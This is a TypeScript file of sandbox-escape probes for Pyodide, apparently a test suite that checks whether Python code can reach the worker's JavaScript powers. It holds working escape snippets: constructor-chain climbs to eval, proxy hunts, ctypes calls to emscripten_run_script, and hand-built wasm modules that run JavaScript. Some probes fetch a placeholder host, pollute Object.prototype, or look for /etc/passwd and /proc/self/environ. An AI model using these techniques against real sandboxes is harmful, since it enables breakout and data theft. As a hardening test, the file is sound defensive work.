// From Python into JavaScript: every handle that plain Pyodide gives away, and what can be made of it.

import { type Probe, python } from "../probe";

const bridge = (title: string, code: string, rest = {}): Probe => python("bridge", title, code.trim(), rest);

/** What only the worker's real global object, or something as powerful, has. */
const POWERS =
  "('postMessage', 'importScripts', 'fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'Worker')";

/** A helper: wins when the object carries one of the powers, or climbs from it to a function made of text. */
const WINS = `
POWERS = ${POWERS}
def wins(thing):
    try:
        if any(hasattr(thing, name) for name in POWERS): return 'won {{label}}'
    except Exception: pass
    try:
        return thing.constructor.constructor("return 'won {{label}}'")()
    except Exception as error:
        return f'{type(error).__name__}: {error}'[:80]
def best(things):
    said = [wins(thing) for thing in things]
    return next((one for one in said if one == 'won {{label}}'), str(said)[:200])
`;

const climb = (title: string, thing: string, setup = "import js"): Probe =>
  bridge(`${title} climbs to a function made of text`, `${WINS}${setup}\nwins(${thing})`);

export const BRIDGE: Probe[] = [
  bridge("the js module has powers", `${WINS}import js\nwins(js)`),
  bridge(
    "js.self, js.globalThis, js.window",
    `${WINS}import js\nbest([getattr(js, n) for n in ('self', 'globalThis', 'window') if hasattr(js, n)])`,
  ),
  climb("js.Object", "js.Object"),
  climb("js.Array's instance", "js.Array.new()"),
  climb("js.setTimeout", "js.setTimeout"),
  climb("js.AbortController's signal", "js.AbortController.new().signal"),
  climb("js.Uint8Array", "js.Uint8Array.new(1)"),
  climb("a converted list", "to_js([1])", "from pyodide.ffi import to_js"),
  climb("a converted dict", "to_js({'a': 1})", "from pyodide.ffi import to_js"),
  climb(
    "a proxy of a Python function",
    "js.Object(create_proxy(print))",
    "import js\nfrom pyodide.ffi import create_proxy",
  ),
  bridge(
    "a caught JavaScript error climbs to a function made of text",
    `${WINS}
import js
from pyodide.ffi import JsException
try:
    js.Object.defineProperty(1, 'x', js.Array.new())
except JsException as error:
    said = best([error, getattr(error, 'js_error', error)])
said`,
  ),
  bridge(
    "an async function's constructor",
    "import js\nfrom pyodide.code import run_js\nrun_js('(async () => {})').constructor(\"return 'won {{label}}'\")\nawait run_js('(async () => {})').constructor(\"return 'won {{label}}'\")()",
  ),
  bridge(
    "a timer's callback that captures this",
    `${WINS}
import js, asyncio
from pyodide.ffi import create_proxy
got = []
def late(this=None, *rest): got.append(this)
js.setTimeout(create_proxy(late, capture_this=True), 0)
await asyncio.sleep(.1)
best(got)`,
  ),
  bridge(
    "an event listener that captures this and its event",
    `${WINS}
import js, asyncio
from pyodide.ffi import create_proxy
got = []
controller = js.AbortController.new()
controller.signal.addEventListener('abort', create_proxy(lambda this, event: got.extend((this, event, event.target, event.currentTarget)), capture_this=True))
controller.abort()
await asyncio.sleep(.05)
best(got)`,
  ),
  bridge(
    "a getter that captures this, found through a prototype",
    `${WINS}
import js, asyncio
from pyodide.ffi import create_proxy, to_js
got = []
proto = js.Object.getPrototypeOf(js.Object.new())
js.Object.defineProperty(proto, 'then', to_js({'get': create_proxy(lambda this: got.append(this), capture_this=True), 'configurable': True}, dict_converter=js.Object.fromEntries))
await asyncio.sleep(.1)
del proto.then
best(got)`,
    { spoils: true, control: "import js\nf'won {{label}}' if hasattr(js, 'fetch') else ''" },
  ),
  bridge(
    "a hunt for proxies through the garbage collector",
    `${WINS}
import gc, sys
from pyodide.ffi import JsProxy
seen, found, queue = set(), [], list(gc.get_objects()) + list(sys.modules.values())
while queue and len(seen) < 60_000:
    one = queue.pop()
    if id(one) in seen: continue
    seen.add(id(one))
    if isinstance(one, JsProxy): found.append(one)
    elif isinstance(one, (dict, list, tuple, type(sys), type(lambda: 0))): queue.extend(gc.get_referents(one))
best(found)`,
  ),
  bridge(
    "the import hook's own list of JavaScript modules",
    `${WINS}
from _pyodide._importhook import jsfinder
best(list(jsfinder.jsproxies.values()))`,
  ),
  bridge(
    "a finder registered anew",
    `${WINS}
import sys
from _pyodide import _importhook
finder = next(f for f in sys.meta_path if type(f).__name__ == 'JsFinder')
sys.modules.pop('js', None)
sys.meta_path.insert(0, finder)
import js
said = wins(js)
sys.meta_path.pop(0)
said`,
  ),
  bridge(
    "the frames below the cell",
    `${WINS}
import sys
from pyodide.ffi import JsProxy
frame, found, queue, seen = sys._getframe(), [], [], set()
while frame:
    queue += [*frame.f_locals.values(), *frame.f_globals.values()]
    frame = frame.f_back
while queue and len(seen) < 20_000:
    one = queue.pop()
    if id(one) in seen: continue
    seen.add(id(one))
    if isinstance(one, JsProxy): found.append(one)
    elif hasattr(one, '__dict__'): queue += list(vars(one).values())
    elif isinstance(one, dict): queue += list(one.values())
best(found)`,
    {
      control: `${WINS}import js, sys\nbest([v for v in sys._getframe().f_globals.values() if type(v).__name__ == 'JsProxy' or v is js])`,
    },
  ),
  bridge(
    "the frames of a traceback",
    `${WINS}
import sys
from pyodide.ffi import JsProxy
found = []
try:
    from pyodide.code import run_js
    run_js('1 +')
except BaseException as error:
    tb = error.__traceback__
    while tb:
        found += [v for v in (*tb.tb_frame.f_globals.values(), *tb.tb_frame.f_locals.values()) if isinstance(v, JsProxy)]
        tb = tb.tb_next
import js
best(found + [js])`,
  ),
  bridge(
    "pyodide_js as a module",
    `${WINS}import pyodide_js\nbest([pyodide_js, *(getattr(pyodide_js, n) for n in dir(pyodide_js) if not n.startswith('__'))])`,
  ),
  bridge(
    "pyodide_js._api",
    `${WINS}import pyodide_js\napi = pyodide_js._api\nbest([api, *(getattr(api, n, None) for n in dir(api) if not n.startswith('__'))])`,
  ),
  bridge(
    "pyodide_js._module",
    `${WINS}import pyodide_js\nm = pyodide_js._module\nbest([m, m.constructor, *(getattr(m, n, None) for n in ('FS', 'ENV', 'LDSO', 'API', 'wasmTable', 'HEAPU8', 'SYSCALLS'))])`,
  ),
  bridge("pyodide.code.run_js", "from pyodide.code import run_js\nrun_js(\"'won {{label}}'\")"),
  bridge(
    "the core's own run_js",
    "import _pyodide_core\nimport pyodide_js\npyodide_js._api.public_api.runPython\nfrom js import eval\neval(\"'won {{label}}'\")",
  ),
  bridge(
    "a JavaScript module of its own registered and its realm climbed",
    `${WINS}
import pyodide_js
pyodide_js.registerJsModule('mine', pyodide_js)
import mine
wins(mine.loadPackage)`,
  ),
  bridge(
    "a lazy file of an address",
    `import pyodide_js
pyodide_js.FS.createLazyFile('/tmp', '{{label}}', '{{http}}/{{label}}', True, False)
open('/tmp/{{label}}').read()`,
  ),
  bridge(
    "a preloaded file of an address",
    `import pyodide_js, asyncio
pyodide_js.FS.createPreloadedFile('/tmp', '{{label}}p', '{{http}}/{{label}}', True, False)
await asyncio.sleep(.2)`,
  ),
  bridge(
    "the browser's database mounted as a file system",
    `import pyodide_js, os, asyncio
os.makedirs('/idb{{label}}', exist_ok=True)
fs = pyodide_js.FS
fs.mount(fs.filesystems.IDBFS, {}, '/idb{{label}}') if False else fs.mount(fs.filesystems.IDBFS, pyodide_js.FS.filesystems, '/idb{{label}}')
open('/idb{{label}}/x', 'w').write('x')
got = []
from pyodide.ffi import create_proxy
fs.syncfs(False, create_proxy(lambda error=None: got.append(error)))
await asyncio.sleep(.3)
'won {{label}}' if got and not got[0] else str(got)`,
    { spoils: true },
  ),
  bridge(
    "the browser's private file system mounted",
    `import js, pyodide_js
root = await js.navigator.storage.getDirectory()
fs = await pyodide_js.mountNativeFS('/opfs{{label}}', root)
open('/opfs{{label}}/x', 'w').write('x')
await fs.syncfs()
'won {{label}}'`,
  ),
  bridge(
    "ctypes finds a C function that runs JavaScript",
    `import ctypes, asyncio
lib = ctypes.CDLL(None)
names = ('emscripten_run_script', 'emscripten_run_script_int', 'emscripten_async_run_script', 'emscripten_async_wget')
got = [n for n in names if hasattr(lib, n)]
for n in got: getattr(lib, n)(b"fetch('{{http}}/{{label}}')")
await asyncio.sleep(.1)
str(got)`,
    { control: "from pyodide.code import run_js\nawait run_js(\"fetch('{{http}}/{{label}}')\")" },
  ),
  bridge(
    "a hand-made side module whose import is JavaScript text",
    `
import ctypes, asyncio
def leb(n):
    out = b''
    while True:
        n, low = n >> 7, n & 127
        out += bytes([low | (128 if n else 0)])
        if not n: return out
def text(s): return leb(len(s)) + s
def section(kind, body): return bytes([kind]) + leb(len(body)) + body
# Emscripten evaluates the text behind exports called __em_js__*, "SIGNATURE<::>BODY" (its dynamic linker, addEmJs).
body = b"(void)<::>0, fetch('{{http}}/{{label}}')\\0"
dylink = text(b'dylink.0') + bytes([1]) + leb(4 + len(leb(len(body))) - 1) + leb(len(body)) + bytes([0, 0, 0])
module = b'\\0asm\\1\\0\\0\\0' + section(0, dylink)
module += section(2, leb(2) + text(b'env') + text(b'memory') + bytes([2, 0]) + leb(1) + text(b'env') + text(b'__memory_base') + bytes([3, 0x7f, 0]))
module += section(6, leb(1) + bytes([0x7f, 0, 0x41, 0, 0x0b]))
module += section(7, leb(1) + text(b'__em_js__leak') + bytes([3]) + leb(1))
module += section(11, leb(1) + bytes([0, 0x23, 0, 0x0b]) + leb(len(body)) + body)
open('/tmp/{{label}}.so', 'wb').write(module)
lib = ctypes.CDLL('/tmp/{{label}}.so')
await asyncio.sleep(.1)
'loaded'`,
    { spoils: true },
  ),
  bridge(
    "a side module made by hand that asks for an import by name",
    `
import ctypes
def text(s): return bytes([len(s)]) + s
def section(kind, body): return bytes([kind, len(body)]) + body
name = b'emscripten_run_script'
module = b'\\0asm\\1\\0\\0\\0' + section(0, text(b'dylink.0') + bytes([1, 4, 0, 0, 0, 0]))
module += section(1, bytes([1, 0x60, 1, 0x7f, 0])) + section(2, bytes([1]) + text(b'env') + text(name) + bytes([0, 0]))
open('/tmp/{{label}}.so', 'wb').write(module)
ctypes.CDLL('/tmp/{{label}}.so')
'loaded, the symbol is there'`,
    { spoils: true, control: "from pyodide.code import run_js\nawait run_js(\"fetch('{{http}}/{{label}}')\")" },
  ),
  bridge(
    "the event loop's own handles",
    `${WINS}
import asyncio, pyodide.webloop as w
loop = asyncio.get_event_loop()
best([getattr(w, n) for n in dir(w) if not n.startswith('__')] + list(vars(loop).values()) + [w.scheduleCallback] if hasattr(w, 'scheduleCallback') else [getattr(w, n) for n in dir(w) if not n.startswith('__')])`,
    {
      control: `${WINS}import js\nwins(js.setTimeout)`,
    },
  ),
  bridge(
    "the platform's Object.prototype, poisoned for the page",
    `import js
js.Object.getPrototypeOf(js.Object.new())['{{label}}'] = 1 if False else None
js.Object.assign(js.Object.getPrototypeOf(js.Object.new()), js.Object.fromEntries(js.Array.of(js.Array.of('{{label}}', 1))))`,
    {
      spoils: true,
      control:
        "from pyodide.code import run_js\nrun_js(\"Object.prototype['{{label}}'] = 1; '{{label}}' in {} ? 'won {{label}}' : 'no'\")",
    },
  ),
  bridge(
    "reads of the real file system",
    "import os\nfound = [p for p in ('/etc/passwd', '/proc/self/environ', '/proc/version') if os.path.exists(p)]\n'won {{label}}' if found else 'nothing'",
    {
      // No Pyodide in a browser can; the control shows that os.path.exists tells a file that is there.
      control:
        "import os\nopen('/tmp/{{label}}', 'w').close()\n'won {{label}}' if os.path.exists('/tmp/{{label}}') else ''",
    },
  ),
];
